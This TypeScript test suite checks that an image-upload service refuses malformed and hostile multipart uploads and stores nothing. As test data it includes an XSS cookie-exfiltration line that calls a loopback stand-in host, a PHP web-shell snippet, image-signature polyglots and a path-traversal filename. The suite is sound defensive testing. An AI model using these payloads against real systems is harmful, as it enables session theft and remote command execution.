/**
 * Bad multipart input is harmless: truncated bodies, a missing or wrong boundary, zero parts, a part over
 * the cap, a thousand tiny parts, a script behind an image signature without a readable header, and a mix of good
 * and bad files. Each answer is a clear 4xx JSON error, nothing is stored (the bucket is listed through
 * the real S3 client against s3rver and the table is read back whole), and memory stays bounded.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestService, type TestResponse, type TestService } from '../support/service.ts';
import { listObjectKeys, snapshotStore, storeDiff } from '../support/store-snapshot.ts';
import { multipartBody, pngOfSize, tinyPng } from '../support/multipart.ts';

let service: TestService;
let libraryKey: string;
/** The push cap the service runs with (PUSH_MAX_BYTES default). */
const PUSH_MAX_BYTES = 4 * 1024 * 1024;

beforeAll(async () => {
  service = await startTestService();
  libraryKey = await service.apiKey('multipart-abuse', 'library');
});
afterAll(() => service?.close());

function push(path: '/library/push' | '/library/multi/push', body: Buffer, contentType: string): Promise<TestResponse> {
  return service.request('POST', path, { apiKey: libraryKey, body, headers: { 'Content-Type': contentType } });
}

/** Sends the request and proves it was refused with a JSON 4xx and that nothing at all was stored. */
async function expectRefusedAndNothingStored(
  send: () => Promise<TestResponse>,
  statuses: number[],
): Promise<TestResponse> {
  const before = await snapshotStore(service);
  const response = await send();
  expect(statuses, `${response.status} ${response.text.slice(0, 300)}`).toContain(response.status);
  expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
  expect(response.body.Error).toEqual(
    expect.objectContaining({ Code: expect.any(String), Message: expect.any(String) }),
  );
  expect(response.text).not.toMatch(/\n\s+at |node_modules|busboy/i);
  expect(storeDiff(before, await snapshotStore(service))).toEqual([]);
  return response;
}

const png = tinyPng();
const image = (name = 'image', data: Buffer = png, filename = 'photo.png') => ({
  name,
  filename,
  contentType: 'image/png',
  data,
});

/** Runs `work` while sampling the process's resident memory; returns the peak growth in bytes. */
async function peakRssGrowth(work: () => Promise<unknown>): Promise<number> {
  const baseline = process.memoryUsage().rss;
  let peak = baseline;
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 5);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  return Math.max(peak, process.memoryUsage().rss) - baseline;
}

describe.each(['/library/push', '/library/multi/push'] as const)('%s', (path) => {
  it('refuses a truncated body', async () => {
    const { body, contentType } = multipartBody([image(), image('image2')]);
    for (const cut of [body.length - 4, Math.floor(body.length / 2), 60, 10]) {
      await expectRefusedAndNothingStored(() => push(path, body.subarray(0, cut), contentType), [400, 415]);
    }
  });

  it('refuses a missing, empty or wrong boundary', async () => {
    const { body } = multipartBody([image()], 'right-boundary');
    for (const contentType of [
      'multipart/form-data',
      'multipart/form-data; boundary=',
      'multipart/form-data; boundary=wrong-boundary',
      'multipart/form-data; boundary="unterminated',
    ]) {
      await expectRefusedAndNothingStored(() => push(path, body, contentType), [400, 415]);
    }
  });

  it('refuses a body with zero parts, and an empty body', async () => {
    await expectRefusedAndNothingStored(
      () => push(path, Buffer.from('--b--\r\n'), 'multipart/form-data; boundary=b'),
      [400],
    );
    await expectRefusedAndNothingStored(() => push(path, Buffer.alloc(0), 'multipart/form-data; boundary=b'), [400]);
    await expectRefusedAndNothingStored(
      () => push(path, Buffer.from('preamble only, no delimiter'), 'multipart/form-data; boundary=b'),
      [400],
    );
  });

  it('refuses a body that is not multipart', async () => {
    await expectRefusedAndNothingStored(() => push(path, png, 'image/png'), [400, 415]);
    await expectRefusedAndNothingStored(() => push(path, Buffer.from('{"image":"x"}'), 'application/json'), [400, 415]);
  });

  it('refuses a part over the cap with 413 pointing to the large-file upload, in bounded memory', async () => {
    const { body, contentType } = multipartBody([image('image', pngOfSize(PUSH_MAX_BYTES + 1024))]);
    let response: TestResponse | undefined;
    const growth = await peakRssGrowth(async () => {
      response = await expectRefusedAndNothingStored(() => push(path, body, contentType), [413]);
    });
    expect(response?.body.Error.Message).toMatch(/\/library\/upload/);
    // The body itself is ~4 MiB (5.6 MB as base64 in the event): a bounded multiple of it, never a blow-up.
    expect(growth).toBeLessThan(256 * 1024 * 1024);
  });

  it('refuses a thousand tiny parts without storing any of them, in bounded memory', async () => {
    const parts = Array.from({ length: 1000 }, (_, index) =>
      image(path === '/library/push' ? 'image' : `file${index}`, png, `tiny-${index}.png`),
    );
    const { body, contentType } = multipartBody(parts);
    const growth = await peakRssGrowth(() =>
      expectRefusedAndNothingStored(() => push(path, body, contentType), [400, 413]),
    );
    expect(growth).toBeLessThan(256 * 1024 * 1024);
  });

  it('refuses a script behind an image signature whose header cannot be read (markup behind a readable header: stored-markup.test.ts)', async () => {
    const script = '<script>fetch("http://127.0.0.1:1/?c="+document.cookie)</script><?php system($_GET["c"]); ?>';
    const polyglots: [string, Buffer][] = [
      ['png magic + script', Buffer.concat([png.subarray(0, 8), Buffer.from(script)])],
      [
        'jpeg magic + html',
        Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`<html><body>${script}</body></html>`)]),
      ],
    ];
    for (const [label, data] of polyglots) {
      const { body, contentType } = multipartBody([image('image', data, `${label}.png`)]);
      const response = await expectRefusedAndNothingStored(() => push(path, body, contentType), [400, 415]);
      expect(response.status, label).toBe(415);
    }
  });

  it('refuses an empty file and a file that is no image whatever its declared type', async () => {
    for (const data of [Buffer.alloc(0), Buffer.from('just text'), Buffer.from('%PDF-1.7\n')]) {
      const { body, contentType } = multipartBody([image('image', data)]);
      await expectRefusedAndNothingStored(() => push(path, body, contentType), [400, 415]);
    }
  });
});

describe('all or nothing', () => {
  it('stores none of the good files of a multi push when one of them is bad', async () => {
    const headerless = Buffer.concat([png.subarray(0, 8), Buffer.from('<script>alert(1)</script>')]);
    const { body, contentType } = multipartBody([image('a'), image('b'), image('c', headerless), image('d')]);
    const response = await expectRefusedAndNothingStored(
      () => push('/library/multi/push', body, contentType),
      [400, 415],
    );
    expect(response.body.Error.Failures).toEqual([expect.objectContaining({ Index: 2 })]);
  });

  it('refuses a single push without an "image" part', async () => {
    const { body, contentType } = multipartBody([image('picture')]);
    await expectRefusedAndNothingStored(() => push('/library/push', body, contentType), [400]);
  });

  it('keeps hostile file names out of the object keys of an accepted push', async () => {
    const before = await listObjectKeys(service.storage);
    const { body, contentType } = multipartBody([image('image', png, '../../../etc/passwd.png')]);
    const response = await push('/library/push', body, contentType);
    expect(response.status, response.text).toBe(200);
    const added = [...(await listObjectKeys(service.storage)).keys()].filter((key) => !before.has(key));
    expect(added).toHaveLength(1);
    expect(added[0]).not.toMatch(/\.\.|passwd/);
  });
});

describe('large-file upload', () => {
  it('refuses an upload whose image header cannot be read with 415 and removes its bytes', async () => {
    const before = await snapshotStore(service);
    const ticket = await service.request('POST', '/library/upload', { apiKey: libraryKey });
    expect(ticket.status, ticket.text).toBe(200);
    const form = new FormData();
    for (const [name, value] of Object.entries(ticket.body.Upload.Fields as Record<string, string>))
      form.append(name, value);
    form.append(
      'file',
      new Blob([Buffer.concat([png.subarray(0, 8), Buffer.from('<html><script>alert(1)</script></html>')])]),
      'x.png',
    );
    const uploaded = await fetch(ticket.body.Upload.Url, { method: 'POST', body: form });
    expect(uploaded.status).toBeLessThan(300);

    const completed = await service.request('POST', `/library/upload/${ticket.body.ItemGuid}/complete`, {
      apiKey: libraryKey,
    });
    expect(completed.status, completed.text).toBe(415);
    const after = await snapshotStore(service);
    expect(storeDiff(before, after).filter((change) => change.startsWith('object'))).toEqual([]);
    expect(storeDiff(before, after).filter((change) => /LIBITEM|ANONUSER/.test(change))).toEqual([]);
  });
});
